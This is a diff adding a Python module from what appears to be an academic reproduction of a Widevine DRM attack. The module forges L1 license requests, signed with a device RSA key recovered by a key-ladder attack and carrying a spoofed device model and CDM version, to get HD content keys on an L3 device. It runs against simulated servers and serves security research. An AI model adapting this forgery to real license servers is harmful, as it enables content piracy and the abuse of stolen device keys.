@@ -1,0 +1,156 @@
+"""HD license forgery — the paper's §V-C future work, implemented.
+
+"On PCs, the Github project netflix-1080p explains how to get HD
+quality on L3 by just modifying the profiles to be sent to the CDN.
+This implies that there is no strong verification for web browsers. An
+interesting future work is to adapt this exploit to Android in order to
+get the license keys of HD contents without breaking into the Widevine
+L1."
+
+This module adapts it: armed with the device RSA key recovered by the
+§IV-D key ladder (:mod:`repro.core.keyladder_attack`), the attacker
+*forges* a license request claiming ``security_level="L1"``, signs it
+with the stolen key, and submits it directly — no app, no CDM. Against
+a service that cross-checks the claim with its provisioning records the
+forgery dies with "security level claim does not match provisioning
+record"; against one that trusts the client (the netflix-1080p
+situation) the server hands over the HD content keys, and the recovery
+pipeline reconstructs 1080p DRM-free media from an L3-only device.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.android.device import AndroidDevice
+from repro.bmff.builder import read_pssh_boxes
+from repro.bmff.boxes import PsshBox
+from repro.core.keyladder_attack import KeyLadderAttack
+from repro.crypto.rng import derive_rng
+from repro.crypto.rsa import RsaPrivateKey, pss_sign
+from repro.license_server.protocol import LicenseRequest
+from repro.net.network import HttpClient, Network
+from repro.ott.app import OttApp
+
+__all__ = ["HdForgeryResult", "HdForgeryAttack"]
+
+
+@dataclass
+class HdForgeryResult:
+    """Outcome of one HD-forgery attempt."""
+
+    service: str
+    request_accepted: bool = False
+    server_error: str | None = None
+    content_keys: dict[bytes, bytes] = field(default_factory=dict)
+    hd_key_ids: list[bytes] = field(default_factory=list)
+    notes: list[str] = field(default_factory=list)
+
+    @property
+    def succeeded(self) -> bool:
+        return bool(self.hd_key_ids)
+
+
+class HdForgeryAttack:
+    """Forge L1 license requests from a broken L3 device."""
+
+    def __init__(self, device: AndroidDevice, network: Network):
+        self.device = device
+        self.network = network
+        self._ladder = KeyLadderAttack(device)
+        self._rng = derive_rng(f"hd-forgery/{device.serial}")
+
+    def forge_request(
+        self,
+        rsa_key: RsaPrivateKey,
+        device_id: bytes,
+        pssh_data: bytes,
+        *,
+        claimed_level: str = "L1",
+        claimed_model: str = "Pixel 6",
+    ) -> LicenseRequest:
+        """Build a client-free license request with spoofed client info,
+        signed by the stolen device RSA key."""
+        request = LicenseRequest(
+            session_id=self._rng.generate(4),
+            device_id=device_id,
+            rsa_fingerprint=rsa_key.public.fingerprint(),
+            pssh_data=pssh_data,
+            nonce=self._rng.generate(16),
+            cdm_version="15.0.0",  # also spoofed: a current CDM
+            security_level=claimed_level,
+            device_model=claimed_model,
+        )
+        request.signature = pss_sign(rsa_key, request.signing_payload())
+        return request
+
+    def run(self, app: OttApp, *, title_id: str | None = None) -> HdForgeryResult:
+        """Recover the RSA key via the §IV-D ladder, then forge."""
+        result = HdForgeryResult(service=app.profile.service)
+
+        # Prerequisite: the standard key-ladder break (provisions the
+        # device as a side effect of the triggered playback).
+        ladder = self._ladder.run(app, title_id=title_id)
+        if not ladder.keybox_recovered or not ladder.rsa_recovered:
+            result.notes.append(
+                "key-ladder prerequisite failed: "
+                + "; ".join(ladder.notes or ["unknown"])
+            )
+            return result
+        keybox_device_id = ladder.device_id
+        rsa_key = self._ladder.recover_device_rsa_key(
+            self._ladder.recover_keybox(), app.profile.package
+        )
+        assert rsa_key is not None and keybox_device_id is not None
+
+        # The PSSH (with every key id, HD included) is public metadata:
+        # read it from the CDN init segment, no account needed.
+        backend = app.backend
+        if title_id is None:
+            title_id = next(iter(backend.catalog)).title_id
+        packaged = backend.packaged[title_id]
+        anonymous = HttpClient(self.network)
+        hd_rep = max(
+            (
+                rep
+                for rep in backend.catalog.get(title_id).videos()
+            ),
+            key=lambda rep: rep.resolution.height,  # type: ignore[union-attr]
+        )
+        init_url, __ = packaged.asset_urls[hd_rep.rep_id]
+        init = anonymous.get(init_url).body
+        pssh_boxes = read_pssh_boxes(init)
+        if not pssh_boxes or not isinstance(pssh_boxes[0], PsshBox):
+            result.notes.append("no PSSH found in the HD init segment")
+            return result
+
+        request = self.forge_request(
+            rsa_key, keybox_device_id, pssh_boxes[0].data
+        )
+        response = anonymous.post(
+            f"https://{app.profile.license_host}/license", request.serialize()
+        )
+        if not response.ok:
+            result.server_error = response.body.decode()
+            result.notes.append(f"license server refused: {result.server_error}")
+            return result
+        result.request_accepted = True
+
+        result.content_keys = KeyLadderAttack.unwrap_license(
+            rsa_key, response.body
+        )
+        if not result.content_keys:
+            result.notes.append("license accepted but no key unwrapped")
+            return result
+        hd_kids = {
+            packaged.kid_by_rep[rep.rep_id]
+            for rep in backend.catalog.get(title_id).videos()
+            if rep.resolution is not None and rep.resolution.height > 540
+        }
+        result.hd_key_ids = [k for k in result.content_keys if k in hd_kids]
+        if result.hd_key_ids:
+            result.notes.append(
+                f"HD keys obtained on an L3 device by claiming L1 "
+                f"({len(result.hd_key_ids)} of {len(hd_kids)})"
+            )
+        return result
